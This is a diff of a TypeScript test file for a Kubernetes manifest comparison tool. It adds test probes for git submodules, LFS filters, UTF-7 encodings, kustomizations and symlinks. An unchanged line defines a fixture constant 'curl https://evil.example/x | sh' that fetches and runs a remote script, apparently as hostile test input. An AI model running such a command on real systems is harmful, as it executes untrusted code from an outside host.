@@ -2,7 +2,7 @@
 // the page, and by which reasons of --fail-on.
 
 import assert from 'node:assert/strict'
-import { readFileSync, symlinkSync, writeFileSync } from 'node:fs'
+import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { describe, test } from 'node:test'
 import { type Outcome, osmKrm } from '../../fixtures/command.ts'
@@ -141,6 +141,10 @@ interface Probe extends Change {
   /** The reasons of --fail-on that find something. */
   readonly fails?: string
 }
+
+/** Matches these texts in any order. */
+const all = (...texts: readonly string[]): RegExp =>
+  new RegExp(texts.map(text => `(?=.*${text.replace(/[.[\]{}()\\/^$|?*+]/g, '\\$&')})`).join(''))
 
 const POLICY = ['--policy', join(root, 'examples/policy/policy.yaml')]
 const EVIL = 'curl https://evil.example/x | sh'
@@ -322,9 +326,33 @@ const PROBES: readonly Probe[] = [
     seen: /kube-system\/ubuntu-workers \(pr:nodes\/machines\.yaml:1\) gets config\.kubernetes\.io\/local-config, so no host applies it/,
   },
   {
+    name: 'a submodule',
+    inRequest: folder => {
+      mkdirSync(join(folder, 'nodes/sub'))
+      new Repository(join(folder, 'nodes/sub')).commit({ 'x.yaml': POOL })
+    },
+    seen: all('Not everything is compared', 'the submodule', 'nodes/sub'),
+  },
+  {
+    name: 'a file whose content a filter fetches',
+    merged: { 'nodes/.gitattributes': 'x.yaml filter=lfs\n', 'nodes/x.yaml': 'oid sha256:1\n' },
+    files: { 'nodes/x.yaml': 'oid sha256:2\n' },
+    seen: all('Not everything is compared', 'filter=lfs', 'nodes/x.yaml'),
+  },
+  {
+    name: 'a file that a checkout has in another encoding',
+    files: { '.gitattributes': 'x.yaml working-tree-encoding=UTF-7\n', 'nodes/x.yaml': '# +AAo-kind: x\n' },
+    seen: all('Not everything is compared', 'working-tree-encoding=UTF-7', 'nodes/x.yaml'),
+  },
+  {
+    name: 'a new kustomization of files that are not read',
+    files: { [KUSTOMIZATION]: 'resources: [machines.yaml, x.txt]\n', 'nodes/x.txt': POOL },
+    seen: all('nodes/kustomization.yaml: resources gets machines.yaml, x.txt'),
+  },
+  {
     name: 'a kustomization that patches',
     files: { [KUSTOMIZATION]: 'resources: [machines.yaml]\npatches: [{path: p.yaml}]\n' },
-    seen: /Not everything is compared.*nodes\/kustomization\.yaml.*patches/,
+    seen: all('Not everything is compared', 'nodes/kustomization.yaml', 'patches'),
   },
   {
     name: 'a kustomization with another list',
@@ -401,6 +429,12 @@ const REFUSED: readonly (Change & { readonly name: string; readonly says: RegExp
     name: 'a link out of the folder',
     inRequest: folder => symlinkSync('../other.yaml', join(folder, 'nodes/x.yaml')),
     says: /pr:nodes\/x\.yaml is a symbolic link to other\.yaml/,
+  },
+  {
+    name: 'a link as a path',
+    inMain: folder => symlinkSync('nodes', join(folder, 'link')),
+    paths: ['nodes', 'link'],
+    says: /neither main nor pr has input files in link/,
   },
 ]
 
